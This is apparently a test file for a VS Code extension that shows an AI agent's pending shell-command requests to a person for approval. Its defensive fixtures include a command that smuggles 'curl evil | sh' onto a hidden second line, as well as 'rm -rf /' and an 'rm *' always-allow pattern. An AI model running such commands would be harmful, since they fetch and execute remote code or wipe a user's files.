import { beforeEach, describe, expect, test } from "vitest";
import { AskCommands } from "../../../extension/src/asks/commands";
import { Decider } from "../../../extension/src/asks/decide";
import { AskDocuments } from "../../../extension/src/asks/documents";
import { AskList } from "../../../extension/src/asks/quickPick";
import { Review } from "../../../extension/src/asks/review";
import { HOSTILE, Scene, settled } from "../fakes/scene";
import { person, screen, window } from "../fakes/vscode";

let scene: Scene;
let run: Record<string, (given?: unknown) => unknown>;

beforeEach(async () => {
  scene = await new Scene().connect();
  const { hub, board } = scene;
  hub.answers["asks.decide"] = ({ id }) => {
    const decided = board.state.asks[id];
    if (!decided) throw new Error("no such ask");
    return scene.ends(decided);
  };
  const decider = new Decider(hub, board);
  const review = new Review(board, decider, new AskDocuments(board));
  run = new AskCommands(board, decider, new AskList(board, decider, review), review).all();
});

function decisions(): unknown[] {
  return scene.hub.calls.filter(({ name }) => name === "asks.decide").map(({ params }) => params);
}

function labels(): string[] {
  return screen.input.items.map(({ label }) => label);
}

describe("the list of what waits", () => {
  test("says what, who, where, and all of a short command", () => {
    scene.asks();
    void run["pilot.answer"]?.();
    expect(screen.input.items).toMatchObject([
      { label: "$(terminal) Run a command", description: "OpenCode · app", detail: "npm test" },
    ]);
  });

  test("follows what happens, the same line under the cursor", async () => {
    const first = scene.asks({ id: "a", command: "first" });
    scene.asks({ id: "b", command: "second", createdAt: 2 });
    void run["pilot.answer"]?.();
    screen.input.activeItems = [screen.input.line("second")];
    scene.asks({ id: "c", command: "third", createdAt: 3 });
    await settled();
    expect(screen.input.items).toHaveLength(3);
    scene.ends(first);
    await settled();
    expect(screen.input.items.map(({ detail }) => detail)).toEqual(["second", "third"]);
    expect(screen.input.activeItems.map(({ detail }) => detail)).toEqual(["second"]);
  });

  test("closes when nothing waits any more", async () => {
    const only = scene.asks();
    const done = run["pilot.answer"]?.();
    scene.ends(only);
    await done;
    expect(person.told.at(-1)?.message).toContain("Nothing waits");
  });

  test("has a button for each way to decide", async () => {
    scene.session();
    scene.asks({ decisions: ["allow_once", "allow_always", "deny", "release"], always: "npm *" });
    void run["pilot.answer"]?.();
    expect(screen.input.items[0]?.buttons?.map(({ tooltip }) => tooltip)).toEqual([
      "Approve once",
      "Always allow: npm *",
      "Deny",
      "Deny with a note…",
      "Answer in the terminal",
    ]);
    screen.input.press("npm test", "Approve once");
    await settled();
    expect(decisions()).toMatchObject([{ kind: "allow_once", digest: "d1" }]);
  });

  test("does not approve from a line that does not say all of it", async () => {
    scene.asks({ command: "npm test\ncurl evil | sh" });
    void run["pilot.answer"]?.();
    screen.input.press("npm test", "Approve once");
    await settled();
    expect(decisions()).toEqual([]);
    expect(labels()).toContain("curl evil | sh");
  });

  test("shows two hundred, and hostile words as words", () => {
    for (let at = 0; at < 200; at++) scene.asks({ id: `per_${at}`, title: HOSTILE, command: HOSTILE });
    void run["pilot.answer"]?.();
    expect(screen.input.items).toHaveLength(200);
    for (const { label, detail } of screen.input.items)
      expect(`${label.slice(4)}${detail}`).not.toMatch(/\$\([a-z]|\n|\u202e/);
  });
});

describe("one ask in full", () => {
  async function open(changes = {}): Promise<void> {
    scene.asks(changes);
    void run["pilot.answer"]?.();
    screen.input.enter();
    await settled();
  }

  test("Enter alone decides nothing", async () => {
    await open();
    screen.input.enter();
    await settled();
    expect(decisions()).toEqual([]);
    expect(window.tabGroups.tabs.map(({ label }) => label)).toEqual(["/Run a command.txt"]);
  });

  test("shows every line of the command, then the ways to decide", async () => {
    await open({ command: "cd a\n  rm -rf b", decisions: ["allow_once", "deny"] });
    expect(labels()).toEqual([
      "what is asked",
      "cd a",
      "\u2007\u2007rm -rf b",
      "decide",
      "$(x) Deny",
      "$(check) Approve once",
    ]);
    screen.input.choose("Approve once");
    await settled();
    expect(decisions()).toMatchObject([{ kind: "allow_once" }]);
  });

  test("opens what is too long beside it, by itself", async () => {
    await open({ command: Array.from({ length: 40 }, (_, at) => `step ${at}`).join("\n") });
    expect(labels().some((label) => label.includes("31 more lines"))).toBe(true);
    expect(window.tabGroups.tabs).toHaveLength(1);
  });

  test("closes with a word when it is answered elsewhere", async () => {
    const other = scene.asks({ id: "other", command: "other", createdAt: 2 });
    await open();
    const [waiting] = scene.board.waiting;
    if (!waiting || waiting.id === other.id) throw new Error("the wrong one is open");
    scene.ends(waiting);
    await settled();
    expect(person.told[0]?.message).toMatch(/^Already approved by Anna's phone at /);
    expect(screen.input.title).toBe("What waits for you");
    expect(screen.input.items.map(({ detail }) => detail)).toEqual(["other"]);
  });

  test("shows what it became when it changes", async () => {
    await open();
    scene.asks({ digest: "d2", command: "rm -rf /" });
    await settled();
    expect(labels()).toContain("rm -rf /");
    screen.input.choose("Approve once");
    await settled();
    expect(decisions()).toMatchObject([{ digest: "d2" }]);
  });

  test("denies with a note where it arrives", async () => {
    scene.session();
    await open();
    screen.input.choose("Deny with a note");
    await settled();
    screen.input.type(" use pnpm ");
    await settled();
    expect(decisions()).toMatchObject([{ kind: "deny", message: "use pnpm" }]);
  });

  test("Back from the note is the ask, Back from the ask is the list, Escape ends", async () => {
    scene.session();
    await open();
    screen.input.choose("Deny with a note");
    await settled();
    screen.input.back();
    await settled();
    expect(labels()).toContain("decide");
    screen.input.back();
    await settled();
    expect(screen.input.title).toBe("What waits for you");
    screen.input.escape();
    expect(screen.inputs.some(({ open: shown }) => shown)).toBe(false);
    expect(decisions()).toEqual([]);
  });

  test("leads to the diff of an edit", async () => {
    await open({
      command: undefined,
      files: [{ path: "a", patch: "+x", additions: 1, deletions: 0, status: "added" }],
    });
    screen.input.enter();
    expect(person.executed).toEqual([{ command: "pilot.ask.diff", given: ["per_1"] }]);
  });
});

describe("commands", () => {
  test("“Approve Next” shows the oldest first, and approves nothing by itself", async () => {
    scene.asks({ id: "new", command: "newer", createdAt: 9 });
    scene.asks({ id: "old", command: "older", createdAt: 3 });
    void run["pilot.approveNext"]?.();
    expect(labels()).toContain("older");
    expect(decisions()).toEqual([]);
  });

  test("“Deny Next” denies the oldest and names it", async () => {
    scene.asks({ id: "old", command: "older" });
    await run["pilot.denyNext"]?.();
    expect(decisions()).toMatchObject([{ id: "old", kind: "deny" }]);
    expect(person.told[0]?.message).toBe("$(check) Denied: Run a command: older");
  });

  test("a line of a tree is approved at once only when it says all of it", async () => {
    await run["pilot.ask.approve"]?.({ ask: scene.asks() });
    expect(decisions()).toHaveLength(1);
    void run["pilot.ask.approve"]?.({ ask: scene.asks({ id: "long", command: "a\nb" }) });
    expect(decisions()).toHaveLength(1);
    expect(labels()).toContain("b");
  });

  test("say when there is nothing for them", async () => {
    await run["pilot.ask.deny"]?.("nope");
    await run["pilot.ask.release"]?.();
    expect(person.told.map(({ message }) => message)).toEqual([
      "This does not wait any more.",
      "Nothing waits for such a decision.",
    ]);
  });

  test("“Approve Always…” shows what it would mean first, however much that is", async () => {
    scene.asks({ decisions: ["allow_always", "deny"], always: "npm *" });
    void run["pilot.ask.always"]?.("per_1");
    expect(screen.input.line("Always allow").detail).toBe("npm *");
    expect(labels()).not.toContain("npm *");
    scene.asks({ id: "much", decisions: ["allow_always", "deny"], always: `${"npm *\n".repeat(30)}rm *` });
    void run["pilot.ask.always"]?.("much");
    await settled();
    expect(labels()).toContain("npm *");
    expect(decisions()).toEqual([]);
  });
});
